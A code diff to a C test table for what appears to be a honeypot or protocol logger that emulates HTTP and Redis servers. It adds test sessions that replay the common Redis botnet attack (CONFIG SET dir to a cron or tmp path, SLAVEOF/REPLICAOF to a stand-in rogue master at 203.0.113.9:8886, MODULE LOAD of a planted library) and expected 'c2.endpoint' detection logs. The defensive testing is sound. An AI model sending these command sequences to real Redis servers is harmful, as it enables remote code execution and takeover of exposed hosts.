@@ -204,9 +204,9 @@ static const struct script scripts[] = {
 	 "http",
 	 NULL,
 	 SV("\x16\x03\x01\x02\x00\x01"),
-	 1,
+	 -EBADMSG,
 	 {"HTTP/1.1 400 Bad Request\r\n", "plain HTTP to an SSL-enabled server port"},
-	 "malformed\n"},
+	 ""},
 	{"redis: ping, info, keys",
 	 "redis",
 	 "{\"version\":\"6.0.16\"}",
@@ -224,9 +224,9 @@ static const struct script scripts[] = {
 	 {"-ERR AUTH <password> called without any password", "-WRONGPASS"},
 	 "auth username=default password=hunter2 method=password ok=false\n"
 	 "auth username=bob password=pw method=password ok=false\n"},
-	{"redis: what botnets try",
+	{"redis: what botnets try on an old one",
 	 "redis",
-	 NULL,
+	 "{\"version\":\"6.0.16\"}",
 	 SV("CONFIG SET dir /var/spool/cron\r\nCONFIG GET dir\r\nSLAVEOF 203.0.113.9 "
 	    "8886\r\nMODULE LOAD /tmp/x.so\r\nQUIT\r\n"),
 	 1,
@@ -234,15 +234,27 @@ static const struct script scripts[] = {
 	  "extension",
 	  "+OK\r\n"},
 	 "command command=CONFIG SET dir /var/spool/cron\ncommand command=CONFIG GET dir\n"
-	 "command command=SLAVEOF 203.0.113.9 8886\ncommand command=MODULE LOAD /tmp/x.so\ncommand "
+	 "command command=SLAVEOF 203.0.113.9 8886\nfingerprint primitive=c2.endpoint "
+	 "value=203.0.113.9:8886\ncommand command=MODULE LOAD /tmp/x.so\ncommand "
 	 "command=QUIT\n"},
+	{"redis: the same on a new one",
+	 "redis",
+	 NULL,
+	 SV("CONFIG SET dir /tmp\r\nREPLICAOF 203.0.113.9 8886\r\nROLE\r\nMODULE LOAD /x.so\r\n"),
+	 0,
+	 {"can't set protected config\r\n+OK\r\n",
+	  "*5\r\n$5\r\nslave\r\n$11\r\n203.0.113.9\r\n:8886\r\n",
+	  "-ERR MODULE command not allowed."},
+	 "command command=CONFIG SET dir /tmp\ncommand command=REPLICAOF 203.0.113.9 8886\n"
+	 "fingerprint primitive=c2.endpoint value=203.0.113.9:8886\ncommand command=ROLE\n"
+	 "command command=MODULE LOAD /x.so\n"},
 	{"redis: an error ends on its line",
 	 "redis",
 	 NULL,
 	 SV("*2\r\n$1\r\nx\r\n$4\r\na\r\nb\r\n"),
 	 0,
 	 {"-ERR unknown command 'x', with args beginning with: 'a  b' \r\n"},
-	 "command command=x a\r\nb\n"},
+	 "command command=x \"a\\r\\nb\"\n"},
 	{"redis: broken protocol",
 	 "redis",
 	 NULL,
